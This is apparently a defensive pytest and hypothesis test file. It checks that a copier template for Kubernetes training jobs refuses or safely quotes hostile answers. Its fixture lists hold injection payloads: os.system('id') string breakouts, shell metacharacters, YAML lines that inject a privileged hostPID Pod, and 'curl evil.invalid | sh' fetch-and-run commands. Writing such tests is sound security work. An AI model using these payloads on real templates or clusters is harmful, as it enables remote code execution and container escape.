"""Hostile answers never get through the template: refused with a message, or rendered safely.

Every free-text question of ``copier.yml`` is fed generated answers (hypothesis: valid-looking
values, the same with a hostile character spliced in, arbitrary text) and every case reported
against the template (issue "Hostile input never gets through", item 1) explicitly. Each answer
is either refused by its validator with copier's message, or renders a project that passes
:func:`_template_hostile.check_project`, and an accepted answer is never one the independent
oracle :func:`_template_hostile.unsafe_reason` calls unsafe.

To add a case: append ``(question, answer)`` to ``ISSUE_CASES`` (or a hostile fragment to
``FRAGMENTS``). ``HFAI_HOSTILE_EXAMPLES`` sets the generated answers per question (default 15;
each is a real copier render).
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from _template_hostile import (
    check_project,
    compiled_once,
    import_file,
    plain_template,
    render_or_refuse,
    unsafe_reason,
)
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

EXAMPLES = int(os.environ.get("HFAI_HOSTILE_EXAMPLES", "15"))

#: The answers each question is varied from: every other answer explicit and valid, so a refusal
#: is the varied answer's own (a derived default such as the slug would otherwise fail first).
BASE: dict[str, dict[str, Any]] = {
    "coco": {
        "project_name": "Base",
        "project_slug": "base",
        "job_flavour": "pytorchjob",
        "kueue_queue": "",
        "spot_node_label": "",
    },
    "custom": {
        "project_name": "Base",
        "project_slug": "base",
        "job_flavour": "pytorchjob",
        "kueue_queue": "",
        "spot_node_label": "",
        "dataset": "custom",
        "dataset_name": "base",
        "dataset_pack": "base/base.ffr",
        "dataset_prefix": "base",
        "dataset_train_images": "train",
        "dataset_train_json": "base/train.json",
        "dataset_val_images": "val",
        "dataset_val_json": "base/val.json",
    },
}

PATH_RE = r"[A-Za-z0-9._+=,@-]{1,8}(/[A-Za-z0-9._+=,@-]{1,8}){0,2}"
NAME_RE = r"[a-z0-9.-]{1,20}"
#: Per question: (the base it is varied from, extra answers it needs, values that look valid).
QUESTIONS: dict[str, tuple[str, dict[str, Any], st.SearchStrategy[str]]] = {
    "project_name": (
        "coco",
        {},
        st.text(st.characters(exclude_categories=("Cc", "Cs")), min_size=1, max_size=30),
    ),
    "description": (
        "coco",
        {},
        st.text(st.characters(exclude_categories=("Cc", "Cs")), min_size=1, max_size=60),
    ),
    "project_slug": ("coco", {}, st.from_regex(r"[a-z][a-z0-9-]{0,44}", fullmatch=True)),
    "dataset_name": ("custom", {}, st.from_regex(r"[a-z][a-z0-9_]{0,12}", fullmatch=True)),
    "dataset_prefix": ("custom", {}, st.from_regex(r"[A-Za-z0-9_-]{1,12}", fullmatch=True)),
    "dataset_pack": ("custom", {}, st.from_regex(PATH_RE + r"\.ffr", fullmatch=True)),
    "dataset_train_images": ("custom", {}, st.from_regex(PATH_RE, fullmatch=True)),
    "dataset_val_images": ("custom", {}, st.from_regex(PATH_RE, fullmatch=True)),
    "dataset_train_json": ("custom", {}, st.from_regex(PATH_RE + r"\.json", fullmatch=True)),
    "dataset_val_json": ("custom", {}, st.from_regex(PATH_RE + r"\.json", fullmatch=True)),
    "image": (
        "coco",
        {},
        st.from_regex(
            r"([a-z0-9.-]{1,10}(:[0-9]{1,5})?/)?[a-z0-9._-]{1,10}(/[a-z0-9._-]{1,8})?:[A-Za-z0-9_.-]{1,10}",
            fullmatch=True,
        ),
    ),
    "base_image": (
        "coco",
        {},
        st.from_regex(r"([a-z0-9.-]{1,10}/)?[a-z0-9._-]{1,10}:[A-Za-z0-9_.-]{1,10}", fullmatch=True),
    ),
    "namespace": ("coco", {}, st.from_regex(NAME_RE, fullmatch=True)),
    "pvc_name": ("coco", {}, st.from_regex(NAME_RE, fullmatch=True)),
    "kueue_queue": ("coco", {}, st.from_regex(NAME_RE, fullmatch=True)),
    "kueue_priority_class": ("coco", {"kueue_queue": "team-a"}, st.from_regex(NAME_RE, fullmatch=True)),
    "priority_class": ("coco", {}, st.from_regex(NAME_RE, fullmatch=True)),
    "mount_path": (
        "coco",
        {},
        st.one_of(
            st.from_regex(r"(/[A-Za-z0-9._-]{1,8}){1,3}/?", fullmatch=True),
            st.sampled_from(["/etc", "/usr/local/data", "/dev/shm", "/workspace", "/mnt/data", "/root/x"]),
        ),
    ),
    "shm_size": (
        "coco",
        {"memory_per_node": "999999Ti"},
        st.from_regex(r"[0-9０-９]{1,7}(Mi|Gi|Ti|G|M|)", fullmatch=True),
    ),
    "memory_per_node": (
        "coco",
        {"shm_size": "1Gi"},
        st.from_regex(r"[0-9０-９]{1,7}(Mi|Gi|Ti|G|M|)", fullmatch=True),
    ),
    "spot_node_label": (
        "coco",
        {},
        st.from_regex(r"([a-z0-9.-]{1,10}/)?[A-Za-z0-9._-]{1,10}=[A-Za-z0-9._-]{0,10}", fullmatch=True),
    ),
}

#: A known-good answer per question (rendered first by the property test).
VALID: dict[str, str] = {
    "project_name": "Kitchen tools: «détection» 🍳",
    "description": 'Finds $PATH\'s `tools` "fast".',
    "project_slug": "kitchen-2",
    "dataset_name": "kitchen_2",
    "dataset_prefix": "Kitchen-2_x",
    "dataset_pack": "k/a+b=c,d@e.ffr",
    "dataset_train_images": "img/train.v1",
    "dataset_val_images": "img/val",
    "dataset_train_json": "k/ann/train.json",
    "dataset_val_json": "k/ann/val.json",
    "image": "registry.local:5000/team/x_y:1.0-rc.1",
    "base_image": "team/base:2",
    "namespace": "research",
    "pvc_name": "data.v2",
    "kueue_queue": "team-a",
    "kueue_priority_class": "low",
    "priority_class": "preemptible",
    "mount_path": "/mnt/data.v2",
    "shm_size": "512Mi",
    "memory_per_node": "40Gi",
    "spot_node_label": "cloud.google.com/gke-spot=true",
}

#: What breaks quoting: line breaks of YAML (\r, \x85, U+2028/9) and Python, quotes, escapes,
#: shell metacharacters, template syntax, path tricks, look-alike digits, invisible characters.
FRAGMENTS = [
    "\r",
    "\n",
    "\r\nkind: Pod\r\n",
    "\x00",
    "\x85",
    "\u2028",
    "\u2029",
    "\x1b[31m",
    '"',
    "'",
    "\\",
    "\\N",
    '"; import os; os.system("id"); "',
    "$(id)",
    "`id`",
    ";",
    "|sh",
    " ",
    "..",
    "/..",
    "//",
    "{{ 7 * 7 }}",
    "#",
    ": ",
    "\t",
    "\ufeff",
    "\u202e",
    "\u200b",
    "１",
    "\U0001f600",
]


def spliced(value: str, fragment: str, at: int) -> str:
    at %= len(value) + 1
    return value[:at] + fragment + value[at:]


def answers_for(question: str) -> st.SearchStrategy[str]:
    """Valid-looking answers, the same with a hostile fragment spliced in, and arbitrary text."""
    valid = QUESTIONS[question][2]
    hostile = st.builds(spliced, valid, st.sampled_from(FRAGMENTS), st.integers(0, 64))
    return st.one_of(valid, hostile, hostile, st.text(max_size=30))


# ----------------------------------------------------------------------------------------------
# Fixtures: the template once, the two baseline projects once
# ----------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_src(tmp_path_factory) -> Iterator[Path]:
    with compiled_once():
        yield plain_template(tmp_path_factory.mktemp("hostile") / "template")


@pytest.fixture(scope="module")
def baselines(hostile_src, tmp_path_factory) -> dict[str, Path]:
    """The base answer sets rendered: what every project's code is compared with."""
    root = tmp_path_factory.mktemp("baselines")
    projects = {}
    for name, answers in BASE.items():
        project = render_or_refuse(hostile_src, root / name, answers)
        assert isinstance(project, Path), project
        projects[name] = project
    # detectron2's first import is slow and may set process state: do it outside the checks.
    import_file(projects["coco"] / "train_net.py")
    return projects


class Renderer:
    """Renders answer sets into numbered folders and checks each outcome."""

    def __init__(self, src: Path, root: Path, baselines: dict[str, Path], crd_dir: Path):
        self.src, self.root, self.baselines, self.crd_dir = src, root, baselines, crd_dir
        self.count = 0
        self.outcomes: list[str] = []

    def check(self, question: str, value: Any, base: str = "coco", extra: dict | None = None) -> Path | str:
        answers = {**BASE[base], **(extra or {}), question: value}
        self.count += 1
        outcome = render_or_refuse(self.src, self.root / f"p{self.count}", answers)
        if isinstance(outcome, str):
            assert f"question '{question}'" in outcome, (
                f"{question}={value!r} refused for another answer: {outcome}"
            )
            assert outcome.split(":", 1)[1].strip(), "the refusal says what was expected"
            self.outcomes.append("refused")
            return outcome
        reason = unsafe_reason(question, value)
        assert reason is None, f"{question}={value!r} was accepted, but it {reason}"
        check_project(outcome, answers, self.baselines[base], self.crd_dir)
        self.outcomes.append("rendered")
        return outcome


@pytest.fixture(scope="module")
def renderer(hostile_src, baselines, tmp_path_factory, crd_dir) -> Renderer:
    return Renderer(hostile_src, tmp_path_factory.mktemp("rendered"), baselines, crd_dir)


# ----------------------------------------------------------------------------------------------
# Generated answers
# ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("question", QUESTIONS)
def test_generated_answers_are_refused_or_rendered_safely(renderer, question):
    base, extra, _ = QUESTIONS[question]
    flavours = ["pytorchjob"] if question == "priority_class" else ["pytorchjob", "trainjob"]
    start = len(renderer.outcomes)

    @example(value=VALID[question], flavour="pytorchjob")
    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
    )
    @given(value=answers_for(question), flavour=st.sampled_from(flavours))
    def property_holds(value, flavour):
        renderer.check(question, value, base, {**extra, "job_flavour": flavour})

    property_holds()
    # Not vacuous: at least the known-good example rendered and passed every check.
    assert "rendered" in renderer.outcomes[start:], f"{question}: every answer was refused"


# ----------------------------------------------------------------------------------------------
# The reported cases, explicitly
# ----------------------------------------------------------------------------------------------

PRIVILEGED_POD = (
    "\r---\rapiVersion: v1\rkind: Pod\rspec:\r  hostPID: true\r  containers: [{privileged: true}]\r#"
)
ISSUE_CASES: list[tuple[str, Any, str]] = [
    # (question, answer, base): a carriage return makes YAML line breaks, in a comment or a value.
    ("project_name", "x" + PRIVILEGED_POD, "coco"),
    ("project_name", "x\n---\nkind: Pod", "coco"),
    ("project_name", "x\x85kind: Pod", "coco"),
    ("project_name", "x\u2028kind: Pod", "coco"),
    ("project_name", "Robot \\N{BULLET} arm", "coco"),  # \N broke train_net.py's docstring
    ("project_name", "a\x00b", "coco"),
    ("description", "paints \x1b[31mred\x1b[0m", "coco"),
    ("image", "reg/x:1\r      template: {spec: {hostPID: true}}", "coco"),
    ("image", "reg/x:1;curl${IFS}evil.invalid|sh", "coco"),
    ("image", "reg/x:latest", "coco"),
    ("base_image", "base:1\nRUN curl evil.invalid | sh", "coco"),
    # A quote closed the Python string literals of train_net.py and tests/conftest.py.
    ("dataset_pack", 'x" + __import__("os").system("id") + ".ffr', "custom"),
    ("dataset_train_images", 'train", __import__("os").system("id"), "', "custom"),
    ("dataset_val_json", "v\\x22.json", "custom"),
    ("dataset_train_json", "../train.json", "custom"),
    # mountPath: the PVC over /etc, invalid YAML, escapes from /workspace.
    ("mount_path", "/\\x65tc", "coco"),
    ("mount_path", "//etc", "coco"),
    ("mount_path", "/etc", "coco"),
    ("mount_path", "/proc/self", "coco"),
    ("mount_path", '/mnt/"data', "coco"),
    ("mount_path", "/mnt/data\nx: y", "coco"),
    ("mount_path", "/mnt/data\\", "coco"),
    ("mount_path", "/workspace/..", "coco"),
    ("mount_path", "/mnt/../etc", "coco"),
    ("mount_path", "/", "coco"),
    ("shm_size", "１６Gi", "coco"),
    ("shm_size", "16Gi\n", "coco"),
    ("memory_per_node", "５１２Gi", "coco"),
    ("max_preemptions", 10_000_000_000, "coco"),
    ("num_nodes", 10**12, "coco"),
    ("grace_seconds", 2**63, "coco"),
    ("checkpoint_period", -1, "coco"),
    ("namespace", "default\nx", "coco"),
    ("kueue_queue", "q\r  hostPID: true", "coco"),
    ("spot_node_label", "pool=spot\r  hostNetwork: true", "coco"),
]


@pytest.mark.parametrize(
    ("question", "answer", "base"), ISSUE_CASES, ids=[f"{q}={a!r}"[:60] for q, a, _ in ISSUE_CASES]
)
def test_reported_hostile_answers_are_refused(renderer, question, answer, base):
    outcome = renderer.check(question, answer, base)
    assert isinstance(outcome, str), f"{question}={answer!r} was accepted"


@pytest.mark.parametrize(
    ("question", "answer", "base"),
    [
        ("project_name", "Détection d'objets « cuisine » 🍳", "coco"),
        ("description", 'Trains on $HOME\'s data; `quotes` "and" {{ braces }} stay text.', "coco"),
        ("dataset_pack", "a+b/c=d,e@f.ffr", "custom"),
        ("mount_path", "/mnt/data.v2/etc", "coco"),
        ("image", "localhost:5000/team/x@sha256:" + "a" * 64, "coco"),
        ("spot_node_label", "cloud.google.com/gke-spot=true", "coco"),
    ],
)
def test_unusual_but_valid_answers_render_exactly(renderer, question, answer, base):
    """Quoting, not refusing: characters that are legal in an answer come out unchanged."""
    for flavour in ("pytorchjob", "trainjob"):
        outcome = renderer.check(question, answer, base, {"job_flavour": flavour})
        assert isinstance(outcome, Path), outcome
